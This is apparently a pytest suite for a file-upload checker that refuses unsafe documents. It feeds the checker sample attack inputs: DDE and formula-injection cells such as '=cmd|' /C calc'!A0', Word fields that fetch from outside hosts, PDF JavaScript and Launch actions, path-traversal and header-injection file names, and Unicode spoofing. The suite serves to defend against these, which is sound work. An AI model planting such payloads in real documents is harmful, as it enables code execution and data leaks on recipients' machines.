"""What files of papers are taken, and what of each is told: the type of its content, nothing that runs, no lock."""

from __future__ import annotations

import contextlib
import io
import random
import zipfile

import docx
import openpyxl
import pikepdf
import pytest

from oneplace.web.papers.taking import NotTakenError, look, safe_name


def pdf(change=lambda made: None, **kept):
    made = pikepdf.new()
    made.add_blank_page()
    made.docinfo["/Author"], made.docinfo["/Title"] = "Ann Author", "Draft 7"
    change(made)
    out = io.BytesIO()
    made.save(out, **kept)
    return out.getvalue()


def word():
    made = docx.Document()
    made.add_paragraph("What was agreed")
    made.core_properties.author, made.core_properties.title = "Ann Author", "Draft 7"
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def excel(hidden=False):
    made = openpyxl.Workbook()
    made.create_sheet("Other").sheet_state = "hidden" if hidden else "visible"
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def formulas(*cells):
    made = openpyxl.Workbook()
    for cell in cells:
        made.active.append([cell])
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        '=WEBSERVICE("http://a.b/"&A1)',
        "=SUM(1,_xlfn.WEBSERVICE(A1))",
        '=rtd("a",,"b")',
        '=_xlfn.IMAGE("http://a.b/x.png")',
        "=CALL(1)",
    ],
)
def test_a_workbook_whose_formula_reaches_out_of_it_is_refused(cell):
    with pytest.raises(NotTakenError, match="reaches out of the file"):
        look("a.xlsx", formulas(1, cell))


def test_a_workbook_with_a_link_to_a_program_is_refused():
    link = {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
    with pytest.raises(NotTakenError, match="a link to another program"):
        look("a.xlsx", archive(link, excel()))


def test_sums_are_told_and_a_text_that_begins_like_a_formula_stays_a_text():
    assert "formulas, beside their last results" in look("a.xlsx", formulas(1, "=SUM(A1)")).insides.notes
    book = openpyxl.Workbook()
    book.active["A1"].value = "=cmd|' /C calc'!A0"
    book.active["A1"].data_type = "s"
    out = io.BytesIO()
    book.save(out)
    assert look("a.xlsx", out.getvalue()).insides.notes == ()


def archive(parts, source=b""):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, text in parts.items():
            made.writestr(name, text)
        if source:
            with zipfile.ZipFile(io.BytesIO(source)) as known:
                for name in known.namelist():
                    if name not in parts:
                        made.writestr(name, known.read(name))
    return out.getvalue()


def odt(**more):
    meta = (
        '<m xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Ann Author</dc:creator>'
        "<dc:title>Draft 7</dc:title></m>"
    )
    return archive(
        {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>", "meta.xml": meta, **more}
    )


def png(after=b"", extra=b""):
    def chunk(kind, body=b""):
        return len(body).to_bytes(4, "big") + kind + body + b"\0\0\0\0"

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b"\0" * 13) + extra + chunk(b"IEND") + after


JPEG = b"\xff\xd8\xff\xe0" + b"\0" * 40 + b"\xff\xd9"
POWERPOINT = archive(
    {
        "[Content_Types].xml": '<Types><Override ContentType="application/vnd.openxmlformats-officedocument'
        '.presentationml.presentation.main+xml"/></Types>',
        "ppt/notesSlides/n1.xml": "<n/>",
    }
)
GOOD = {
    "a.pdf": pdf(), "a.docx": word(), "a.xlsx": excel(), "a.pptx": POWERPOINT, "a.odt": odt(), "a.png": png(),
    "a.jpg": JPEG, "b.jpeg": JPEG, "a.txt": "Wörds\r\n".encode(), "a.csv": b"\xef\xbb\xbfa,b\n1,2\n", "A.PDF": pdf(),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_each_type_is_taken_for_what_it_is(name):
    ending = name[2:].lower().replace("jpeg", "jpg")
    found = look(name, GOOD[name])
    assert (found.form, found.name) == (ending, f"{name[0]}.{ending}")


@pytest.mark.parametrize(("name", "other"), [(a, b) for a in GOOD for b in GOOD if a[2:4].lower() != b[2:4].lower()])
def test_a_name_that_says_another_type_is_refused(name, other):
    if {name[2:], other[2:]} == {"txt", "csv"}:
        return  # text is text: the name alone tells which
    with pytest.raises(NotTakenError):
        look(name, GOOD[other])


@pytest.mark.parametrize("name", ["a.pdf", "a.docx", "a.odt"])
def test_the_author_and_title_that_go_with_a_file_are_told(name):
    insides = look(name, GOOD[name]).insides
    assert (insides.author, insides.title) == ("Ann Author", "Draft 7")


def _runs(made):
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _runs_deep(made):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")
    made.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=action)])


def _attached(made):
    made.attachments["secret.xlsx"] = b"numbers"


MACROS = archive({"word/vbaProject.bin": b"x"}, word())
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_TYPE = archive({"[Content_Types].xml": f'<Types><Override ContentType="{MACRO_MAIN}"/></Types>'})
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
LOCKED = {"META-INF/manifest.xml": "<m:encryption-data/>"}
ENTITY = {"docProps/core.xml": "<!DOCTYPE x [<!ENTITY a 'a'>]><x/>"}
TEMPLATE = archive(
    {
        "word/_rels/settings.xml.rels": '<R><Relationship Type="x/attachedTemplate" TargetMode="External" Target="http://e"/></R>'
    },
    word(),
)
BAD = {
    "empty": ("a.pdf", b"", "empty"),
    "a program": ("a.exe", b"MZ\x90\0", "are not taken"),
    "no ending": ("paper", b"words", "are not taken"),
    "a second ending": ("a.pdf.exe", pdf(), "are not taken"),
    "a locked PDF": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), "locked by a password"),
    "a PDF with rights": ("a.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="")), "locked by a password"),
    "a script in a PDF": ("a.pdf", pdf(_runs), "script"),
    "a start within a PDF": ("a.pdf", pdf(_runs_deep), "script"),
    "a file within a PDF": ("a.pdf", pdf(_attached), "attached"),
    "a cut PDF": ("a.pdf", b"%PDF-1.7\nnothing", "no PDF that can be read"),
    "a PDF with an archive": ("a.pdf", pdf() + archive({"x.class": b"x"}), "archive is hidden"),
    "an archive before which a PDF stands": ("a.docx", pdf() + word(), "is called .docx"),
    "an archive with a PDF's first word": ("a.docx", archive({"%PDF-1.4": b"x"}, word()), "two types"),
    "old Office, or a lock": ("a.docx", OLD, "locked by a password or of"),
    "macros": ("a.docx", MACROS, "macros"),
    "a type with macros": ("a.docx", MACRO_TYPE, "macros"),
    "macros of OpenDocument": ("a.odt", odt(**{"Basic/Standard/Module1.xml": "x"}), "macros"),
    "a lock of OpenDocument": ("a.odt", odt(**LOCKED), "locked by a password"),
    "a template from elsewhere": ("a.docx", TEMPLATE, "fetches a part"),
    "an object": ("a.docx", archive({"word/embeddings/oleObject1.bin": b"x"}, word()), "program or an object"),
    "a way out": ("a.docx", archive({"../../etc/passwd": b"x"}, word()), "no Word"),
    "a swelling entity": ("a.docx", archive(ENTITY, word()), "no Word"),
    "an archive of no document": ("a.docx", archive({"a.txt": b"x"}), "not a document"),
    "words after an archive": ("a.docx", word() + b"<html>", "before or after"),
    "a cut archive": ("a.docx", word()[:-40], "no Word"),
    "words after a picture": ("a.png", png(after=b"<script>"), "after its end"),
    "an archive after a picture": ("a.jpg", JPEG + archive({"x": b"x"}) + b"\xff\xd9", None),
    "a cut picture": ("a.jpg", JPEG[:-2], "cut off"),
    "a page as text": ("a.txt", b" <!DOCTYPE html><script>", "web page"),
    "signs that no text has": ("a.csv", b"a\0b", "no text has"),
    "another alphabet's bytes": ("a.txt", "Wörds".encode("utf-16"), "UTF-8"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
def test_what_must_not_be_taken_is_refused_in_one_line_that_says_how_to_mend_it(case):
    name, content, told = BAD[case]
    with pytest.raises(NotTakenError) as refused:
        look(name, content)
    line = str(refused.value)
    assert told is None or told in line
    assert "\n" not in line
    assert len(line) < 220


def test_a_document_that_unpacks_to_a_mountain_is_refused(monkeypatch):
    from oneplace.web.papers.taking import office

    monkeypatch.setattr(office, "MOST_BYTES", 1_000)
    with pytest.raises(NotTakenError, match="unpacks to more"):
        look("a.docx", word())


def test_what_readers_would_find_is_told():
    assert "hidden sheets" in look("a.xlsx", excel(hidden=True)).insides.notes
    assert look("a.xlsx", excel()).insides.notes == ()
    assert "speaker’s notes" in look("a.pptx", POWERPOINT).insides.notes
    assert "comments" in look("a.docx", archive({"word/comments.xml": "<c/>"}, word())).insides.notes
    changed = archive({"word/document.xml": '<w xmlns:w="w"><w:ins w:id="1"/></w>'}, word())
    assert "tracked changes" in look("a.docx", changed).insides.notes


@pytest.mark.parametrize(("given", "kept"), [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("C:\\Users\\ann\\Board paper 7.pdf", "Board paper 7.pdf"),
    ("a\u202efdp.exe.pdf", "afdp-exe.pdf"),
    ("..pdf", "paper.pdf"),
    (".pdf", "paper.pdf"),
    ("con.pdf", "paper.pdf"),
    ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie- x.pdf"),
    ("x" * 500 + ".pdf", "x" * 100 + ".pdf"),
    ('He said "so" <b>.pdf', "He said -so- -b.pdf"),
    ("Ärzte (neu).pdf", "Ärzte (neu).pdf"),
])  # fmt: skip
def test_names_lead_nowhere_and_hide_nothing(given, kept):
    assert safe_name(given, "pdf") == kept


def test_a_file_that_was_damaged_anywhere_is_taken_or_refused_in_words_and_never_breaks():
    dice = random.Random(20261128)
    for name, content in GOOD.items():
        for _once in range(150):
            spoilt = bytearray(content)
            for _hit in range(dice.randint(1, 8)):
                at, kind = dice.randrange(len(spoilt)), dice.random()
                spoilt[at : at + (1 if kind < 0.6 else dice.randint(0, 50))] = dice.randbytes(1 if kind < 0.8 else 20)
            with contextlib.suppress(NotTakenError):
                look(name, bytes(spoilt))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1+1",
        "-1-1",
        "@SUM(A1)",
        "\t=1",
        " =1",
        '"=HYPERLINK(""http://x"")"',
        "- less smoking",
        "=cmd|' /C calc'!A0",
        "\uff1d1+1",
        "\u200b=1+1",
        "\u202a\uff20SUM(A1)",
    ],
)
@pytest.mark.parametrize("row", ["{}", "a,{}", "{},b", "a;{}", "a\t{}"])
def test_a_csv_with_a_cell_that_a_spreadsheet_would_run_is_refused_by_its_row(cell, row):
    with pytest.raises(NotTakenError, match="Row 2 has a cell that a spreadsheet would run"):
        look("a.csv", f"name,note\n{row.format(cell)}\n".encode())


@pytest.mark.parametrize("cell", ["-1", "+2.5", "-", "-1.5e-3", '"-1,234"', "-5%", "a=1", "x@y", "'=1", "1-2", "-£5"])
def test_numbers_and_dashes_of_a_csv_are_no_formulas(cell):
    assert look("a.csv", f"name,note\na,{cell}\n".encode()).form == "csv"


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def field(*runs, part="word/document.xml"):
    """A Word file with a field; ``runs`` are the texts of its instruction, or a kind of mark."""
    marks = {"begin", "separate", "end"}
    told = [
        f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>'
        if one in marks
        else f"<w:r><w:instrText>{one}</w:instrText></w:r>"
        for one in ("begin", *runs, "end")
    ]
    return archive({part: f"<w:document {W}><w:p>{''.join(told)}</w:p></w:document>"}, word())


@pytest.mark.parametrize(
    "content",
    [
        field(' DDEAUTO c:\\cmd.exe "/k calc" '),
        field(" D", "DE", "AUTO cmd "),
        field(" ddeauto cmd ", "separate"),
        field(' INCLUDETEXT "http://a.b/c" ', part="word/header1.xml"),
        field(' INCLUDEPICTURE "http://a.b/c" ', part="word/footnotes.xml"),
        field(" IF 1 = 1 ", "begin", " DDE cmd a b ", "end"),
        field(" PAGE ", "separate", "begin", " INCLUDETEXT x ", "end"),
        field("begin", " QUOTE 68 68 69 ", "end", " cmd a b "),
        archive({"word/document.xml": f'<w:p {W}><w:fldSimple w:instr=" DDEAUTO cmd a"/></w:p>'}, word()),
    ],
)
def test_a_word_file_with_a_field_that_reaches_out_of_it_is_refused(content):
    with pytest.raises(NotTakenError, match="reaches out of the file"):
        look("a.docx", content)


@pytest.mark.parametrize(
    "runs",
    [
        (" PAGE ",),
        ("PAGE", "separate"),
        (' HYPERLINK "http://hidden.org" ', "separate"),
        (" REF linked \\h ",),
        (" IF ", "begin", " PAGE ", "separate", "end", " = 1 a b "),
        (" =", "begin", " NUMPAGES ", "end", " - 1 "),
        (' TOC \\o "1-3" ', "separate", "begin", " PAGEREF _Toc1 \\h ", "separate", "end"),
    ],
)
def test_numbers_of_pages_and_contents_are_no_such_fields(runs):
    assert look("a.docx", field(*runs)).form == "docx"


def relation(sort, mode="External"):
    return f'<R><Relationship Type="x/{sort}" TargetMode="{mode}" Target="http://a.b/c"/></R>'


@pytest.mark.parametrize("sort", ["image", "aFChunk", "attachedTemplate", "video", "externalLinkPath", "Hyperlinks"])
@pytest.mark.parametrize(("name", "part"), [("a.docx", "word"), ("a.pptx", "ppt/slides"), ("a.xlsx", "xl")])
def test_nothing_but_a_link_to_follow_leads_out_of_a_file(sort, name, part):
    at = f"{part}/_rels/x.xml.rels"
    for mode in ("External", "external"):
        with pytest.raises(NotTakenError, match="fetches a part of itself"):
            look(name, archive({at: relation(sort, mode)}, GOOD[name]))
    assert look(name, archive({at: relation("hyperlink")}, GOOD[name])).form == name[2:]


def test_what_starts_a_program_from_slides_is_refused():
    slide = {"ppt/slides/slide1.xml": '<p><hlinkClick action="ppaction://program"/></p>'}
    with pytest.raises(NotTakenError, match="an action that starts a program"):
        look("a.pptx", archive(slide, POWERPOINT))


X = 'xmlns:x="http://www.w3.org/1999/xlink"'


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (f'<c {X}><image x:href="http://a.b/c.png"/></c>', "fetches a part of itself"),
        (f'<c {X}><section-source x:href="../secret.odt"/></c>', "fetches a part of itself"),
        (f'<c {X}><object x:href="//server/share/x"/></c>', "fetches a part of itself"),
        ("<c><dde-source/></c>", "reaches out of the file"),
        ("<c><event-listener/></c>", "reaches out of the file"),
        (f'<c {X}><a x:href="http://a.b"/><image x:href="Pictures/1.png"/><object x:href="./Object 1"/></c>', ""),
    ],
)
@pytest.mark.parametrize("part", ["content.xml", "styles.xml"])
def test_an_opendocument_text_fetches_and_starts_nothing(content, told, part):
    made = odt(**{part: content})
    if not told:
        assert look("a.odt", made).form == "odt"
        return
    with pytest.raises(NotTakenError, match=told):
        look("a.odt", made)
